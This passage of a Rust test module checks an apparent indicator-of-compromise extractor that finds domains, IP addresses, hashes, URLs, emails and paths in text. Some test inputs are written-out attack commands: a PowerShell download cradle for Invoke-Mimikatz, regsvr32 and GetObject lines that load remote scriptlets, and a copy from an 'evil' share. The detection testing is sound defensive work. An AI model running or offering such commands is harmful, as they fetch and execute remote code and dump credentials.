            all("visit évil.example.com or mail usér@example.com"),
            vec![]
        );
        assert_eq!(
            all("é evil.example.com"),
            pairs(&[("dns", "evil.example.com")])
        );
    }

    #[test]
    fn capitalised_hosts_with_a_path_or_www_are_domains() {
        assert_eq!(
            all("WWW.Example.ORG and Evil.COM/x, not Microsoft.NET or Wscript.Shell"),
            pairs(&[("dns", "www.example.org"), ("dns", "evil.com")])
        );
    }

    #[test]
    fn offsets_are_code_points() {
        let text = "é → 10.0.0.1";
        let mut got = Vec::new();
        extract(text, KindSet::DEFAULT, |i| got.push((i.start, i.end)));
        assert_eq!(got, vec![(4, 12)]);
    }

    #[test]
    fn ipv4_octets_and_context() {
        assert_eq!(
            all("connect 999.999.999.999 01.002.3.4 1.2.3.4.5 10.0.0.1"),
            pairs(&[("ipv4", "10.0.0.1")])
        );
        assert_eq!(all("Agent_1.0.0.178\\ v1.2.3.4 Version=4.0.0.0"), vec![]);
        assert_eq!(
            all("127.0.0.3:4444:127.0.0.2:3389 \\\\127.0.0.1\\ADMIN$ x=0.0.0.0."),
            pairs(&[
                ("ipv4", "127.0.0.3"),
                ("ipv4", "127.0.0.2"),
                ("ipv4", "127.0.0.1"),
                ("ipv4", "0.0.0.0")
            ])
        );
    }

    #[test]
    fn ipv6_forms() {
        assert_eq!(
            all("fe80::1%eth0 2001:db8::1/64 [::1]:80 ::ffff:192.0.2.128"),
            pairs(&[
                ("ipv6", "fe80::1"),
                ("ipv6", "2001:db8::1"),
                ("ipv6", "::1"),
                ("ipv4", "192.0.2.128")
            ])
        );
        assert_eq!(
            all("[Convert]::FromBase64String([Char]::Add lsadump::zerologon :: 12:34:56"),
            vec![]
        );
    }

    #[test]
    fn hashes_standalone_adjacent_and_not() {
        let (a, b) = (
            "d41d8cd98f00b204e9800998ecf8427e",
            "0cc175b9c0f1b6a831c399e269772661",
        );
        for sep in [" ", ",", "\n", ";"] {
            assert_eq!(
                all(&format!("{a}{sep}{b}")),
                pairs(&[("md5_hash", a), ("md5_hash", b)])
            );
        }
        assert_eq!(
            all("CSCB57CBDD97A63426FA3A46968EC8A762.TMP tmpf890f11830e143ada2d718f706dd94c0.exec {aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa}"),
            vec![]
        );
        assert_eq!(
            all("a{0123456789abcdef0123456789abcdef} 0123456789abcdef0123456789abcdef0 00000000000000000000000000000001"),
            vec![]
        );
        assert_eq!(
            all("ABCDEF0123456789ABCDEF0123456789ABCDEF01"),
            pairs(&[("sha1_hash", "abcdef0123456789abcdef0123456789abcdef01")])
        );
        // msticpy's own case: a hash glued to a following word still counts.
        assert_eq!(
            all("00236a2ae558018ed13b5222ef1bd987hash"),
            pairs(&[("md5_hash", "00236a2ae558018ed13b5222ef1bd987")])
        );
    }

    #[test]
    fn domains_and_not_domains() {
        assert_eq!(
            all("visit WWW.MICROSOFT.COM or news.ycombinator.com; @ abc.com abc.wallet"),
            pairs(&[
                ("dns", "www.microsoft.com"),
                ("dns", "news.ycombinator.com"),
                ("dns", "abc.com")
            ])
        );
        assert_eq!(
            all(
                r#"powershell Invoke-Mimikatz.ps1 run.sh a.exe b.zip c.py T1197.md C:\Windows\Microsoft.NET\x new-object -com WScript.Shell $vdir.name h.Open("GET") /text:vdir.name Content.IE5"#
            ),
            vec![]
        );
        assert_eq!(
            all("server.local host.corp x.internal dc01.corp.local"),
            vec![]
        );
        assert_eq!(
            all(r"copy \\files.evil.com\share\x.zip c:\x"),
            pairs(&[("dns", "files.evil.com")])
        );
    }

    #[test]
    fn urls_end_where_they_end() {
        assert_eq!(
            all("IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/x/Invoke-Mimikatz.ps1'); Invoke-Mimikatz"),
            pairs(&[
                ("url", "https://raw.githubusercontent.com/x/Invoke-Mimikatz.ps1"),
                ("dns", "raw.githubusercontent.com")
            ])
        );
        assert_eq!(
            all("GetObject(\"script:https://a.uguu.se/x.sct\").Exec() (see http://en.wikipedia.org/wiki/A_(b)), http://x.com/a."),
            pairs(&[
                ("url", "https://a.uguu.se/x.sct"),
                ("dns", "a.uguu.se"),
                ("url", "http://en.wikipedia.org/wiki/A_(b)"),
                ("dns", "en.wikipedia.org"),
                ("url", "http://x.com/a"),
                ("dns", "x.com")
            ])
        );
        assert_eq!(
            all("regsvr32 /i:http://server/file.sct http://10.10.10.5:8444/l.sct file:///C:/x.hta"),
            pairs(&[
                ("url", "http://server/file.sct"),
                ("url", "http://10.10.10.5:8444/l.sct"),
                ("ipv4", "10.10.10.5"),
                ("url", "file:///C:/x.hta")
            ])
        );
        assert_eq!(
            all("gettype('http://system.management.automation.amsiutils') http://$ip/x http://"),
            vec![]
        );
        assert_eq!(
            all("sfXp://www.virustotal.com/x fXps://a.example.org HTTP://B.example.org"),
            pairs(&[
                ("url", "sftp://www.virustotal.com/x"),
                ("dns", "www.virustotal.com"),
                ("url", "ftps://a.example.org"),
                ("dns", "a.example.org"),
                ("url", "http://B.example.org"),
                ("dns", "b.example.org")
            ])
        );
    }

    #[test]
    fn every_url_is_checked_decoded() {
        assert_eq!(
            found(
                "get http://a.com/x%2Fy and http://b.com/r?u=http%3A%2F%2Fevil.com%2Fp",
                KindSet::parse_list("url,dns").unwrap()
            ),
            pairs(&[
                ("url", "http://a.com/x%2Fy"),
                ("url", "http://a.com/x/y"),
                ("dns", "a.com"),
                ("url", "http://b.com/r?u=http%3A%2F%2Fevil.com%2Fp"),
                ("url", "http://b.com/r?u=http://evil.com/p"),
                ("url", "http://evil.com/p"),
                ("dns", "evil.com"),
                ("dns", "b.com"),
            ])
        );
    }

    #[test]
    fn emails() {
        assert_eq!(
            all("User <user@Microsoft.com> and admin@corp.local, x@y, //me@"),
            pairs(&[("email", "user@microsoft.com"), ("dns", "microsoft.com")])
        );
        assert_eq!(
            all("https://myuser@some.domain.es:88/p"),
            pairs(&[
                ("url", "https://myuser@some.domain.es:88/p"),
                ("dns", "some.domain.es")
            ])
        );
    }

    #[test]
    fn paths() {
        let kinds = KindSet::parse_list("windows_path,linux_path").unwrap();
        assert_eq!(
            found(
                r#"c:\one\path\or\another\myprocess -file:"..\another\file" -file:"\\uncpath\file""#,
                kinds
            ),
            pairs(&[
                ("windows_path", r"c:\one\path\or\another\myprocess"),
                ("windows_path", r"..\another\file"),
                ("windows_path", r"\\uncpath\file"),
            ])
        );
        assert_eq!(
            found(
                "/bin/bash --file:./bish --file:/bin/bash --file:../../bosh /c",
                kinds
            ),
            pairs(&[
                ("linux_path", "/bin/bash"),
                ("linux_path", "./bish"),
                ("linux_path", "/bin/bash"),
                ("linux_path", "../../bosh"),
            ])
        );
        assert_eq!(
            found(r#""C:\Program Files (x86)\App\app.exe" -x"#, kinds),
            pairs(&[("windows_path", r"C:\Program Files (x86)\App\app.exe")])
        );
    }

    #[test]
    fn no_panic_on_odd_input() {
        for text in [
            "",
            "@",
            "@@",
            ".",
            "::",
            "http://",
            "hxxp[://]",
            "[.]",
            "\\\\",
            "%",
            "é@é.com",
            "a@b.c.d.e.f.g.h",
            "http://[::1",
            "http://a:b@",
            "file://",
            "1.2.3[.]",
            "[.][.]",
        ] {
            extract(text, KindSet::ALL, |_| {});
        }
    }
}
